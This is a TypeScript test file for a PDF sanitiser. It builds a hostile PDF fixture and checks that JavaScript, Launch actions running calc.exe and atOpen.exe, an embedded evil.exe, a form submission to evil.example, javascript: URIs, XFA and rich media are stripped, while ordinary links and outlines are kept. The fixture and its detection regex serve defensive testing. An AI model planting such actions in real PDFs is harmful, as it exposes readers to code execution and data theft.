import { inflateSync } from 'node:zlib';
import { afterAll, expect, it, onTestFinished } from 'vitest';
import { aPdf } from '../../testing/aPdf.ts';
import { allThatIsRead } from '../pdf-order/testing/readingPdf.ts';
import { threadedStamper } from '../pdf-stamper/threadedStamper.ts';
import { pdfiumReader } from './pdfiumReader.ts';

const reader = pdfiumReader();
afterAll(() => reader.close());

/** A PDF of these objects, of which the first is the catalog. */
function pdfOf(bodies: readonly string[]): Buffer {
  let text = '%PDF-1.7\n';
  const offsets = bodies.map((body, at) => {
    const offset = text.length;
    text += `${at + 1} 0 obj\n${body}\nendobj\n`;
    return offset;
  });
  const start = text.length;
  const rows = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('');
  text += `xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${rows}`;
  return Buffer.from(
    `${text}trailer\n<</Size ${bodies.length + 1}/Root 1 0 R>>\nstartxref\n${start}\n%%EOF\n`,
    'latin1',
  );
}

const drawing = 'BT /F1 12 Tf 72 720 Td (Torque) Tj ET';
const link = (action: string): string => `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/Border[0 0 0]${action}>>`;

/** Everything that acts, each where it may be, next to links and names that do not. */
const hostile = pdfOf([
  `<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC<</S/JavaScript/JS(atClose\\(\\))>>>>
    /Names<</JavaScript<</Names[(a) 6 0 R]>>/EmbeddedFiles<</Names[(evil.exe) 7 0 R]>>/Dests<</Names[(scope)[3 0 R/Fit]]>>>>
    /AcroForm<</Fields[11 0 R]/XFA 9 0 R>>/Outlines 12 0 R/PageLabels<</Nums[0<</S/r>>]>>>>`,
  '<</Type/Pages/Count 1/Kids[3 0 R]>>',
  `<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</Font<</F1 4 0 R/AA 4 0 R/JS 4 0 R>>>>/Contents 5 0 R
    /AA<</O<</S/Launch/F(atOpen.exe)>>>>/Annots[10 0 R
    ${link('/A<</S/Launch/Win<</F(calc.exe)>>>>')} ${link('/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>')}
    ${link('/A<</S/GoToE/T<</R/C>>>>')} ${link('/A<</S/SubmitForm/F(http://evil.example/submit)>>')}
    ${link('/A<</S/ImportData/F(data.fdf)>>')} ${link('/A<</S/Java#53cript/JS(escaped\\(\\))>>')}
    ${link('/A<</S/URI/URI(javascript:alert\\(1\\))>>')} ${link('/A<</S/URI/URI(https://example.org/scope)>>')}
    ${link('/A<</S/GoTo/D(scope)/Next<</S/JavaScript/JS(after\\(\\))>>>>')} ${link('/Dest[3 0 R/Fit]')}
    <</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 7 0 R>> <</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent 8 0 R>>
    <</Type/Annot/Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition/JS(played\\(\\))>>>> 11 0 R]>>`,
  '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  `<</Length ${drawing.length}>>\nstream\n${drawing}\nendstream`,
  '<</S/JavaScript/JS(atOpen\\(\\))/P 1 0 R>>',
  '<</Type/Filespec/F(evil.exe)/EF<</F 8 0 R>>>>',
  '<</Type/EmbeddedFile/Length 7>>\nstream\nprogram\nendstream',
  '<</Length 7>>\nstream\n<xdp:x>\nendstream',
  link('/A 6 0 R'),
  '<</Type/Annot/Subtype/Widget/FT/Tx/T(field)/Rect[0 0 9 9]/AA<</K<</S/JavaScript/JS(atKey\\(\\))>>>>>>',
  '<</Type/Outlines/First 13 0 R/Last 13 0 R/Count 1>>',
  '<</Title(Scope)/Parent 12 0 R/Dest[3 0 R/Fit]>>',
]);

/** All that a file says, with what is packed in it unpacked. */
function unpackedText(bytes: Uint8Array): string {
  const text = Buffer.from(bytes).toString('latin1');
  const streams = [...text.matchAll(/stream\r?\n([\s\S]*?)\r?\nendstream/g)].map(([, data = '']) => {
    try {
      return inflateSync(Buffer.from(data, 'latin1')).toString('latin1');
    } catch {
      return data;
    }
  });
  return [text, ...streams].join('\n');
}

const acting =
  /JavaScript|Java#53|Launch|calc\.exe|evil|atOpen|atClose|atKey|after|escaped|played|GoToR|GoToE|SubmitForm|ImportData|EmbeddedFile|FileAttachment|RichMedia|Rendition|XFA|<xdp|program|javascript:/;

it('is given to readers without what acts, and the remarks say so', async () => {
  const content = await reader.read(hostile);
  if ('problem' in content || !content.readable) throw new Error('The PDF was not taken, or not changed');
  expect(content.remarks).toEqual(['deactivated']);
  expect(unpackedText(hostile)).toMatch(acting);
  expect(acting.exec(unpackedText(content.readable))?.[0]).toBeUndefined();
  const said = unpackedText(content.readable);
  for (const left of [
    'example.org/scope',
    '/GoTo',
    '/Dest',
    '/PageLabels',
    '/Outlines',
    '/AA 4 0 R',
    '/JS 4 0 R',
  ])
    expect(
      said.replaceAll(/<([0-9a-f]+)>/g, (_, hex: string) => Buffer.from(hex, 'hex').toString('latin1')),
    ).toContain(left);
  expect(content).toMatchObject({ pages: 1, texts: ['Torque'] });
  expect(await allThatIsRead(content.readable)).toBeDefined();
  expect(await reader.read(content.readable)).toMatchObject({ readable: null, remarks: [] });
});

it('is downloaded with its stamp without what acts', async () => {
  const stamper = threadedStamper();
  onTestFinished(() => stamper.close());
  const content = await reader.read(hostile);
  if ('problem' in content || !content.readable) throw new Error('The PDF was not taken, or not changed');
  const pdf = new Uint8Array(new SharedArrayBuffer(content.readable.length));
  pdf.set(content.readable);
  const stamp = { lines: [['Downloaded by Ines Ravndal']], language: 'en', notes: [] };
  const watch = { signal: new AbortController().signal, onProgress: () => undefined };
  const stamped = await stamper.stamp({ pdf, stamp }, watch);
  if ('problem' in stamped) throw new Error(stamped.problem);
  const download = Buffer.concat([stamped.repaired ?? pdf, stamped.end]);
  expect(download.length).toBeGreaterThan(pdf.length);
  expect(acting.exec(unpackedText(download))?.[0]).toBeUndefined();
});

it('is the very file where nothing in it acts', async () => {
  expect(await reader.read(aPdf(2))).toMatchObject({ readable: null, remarks: [] });
});
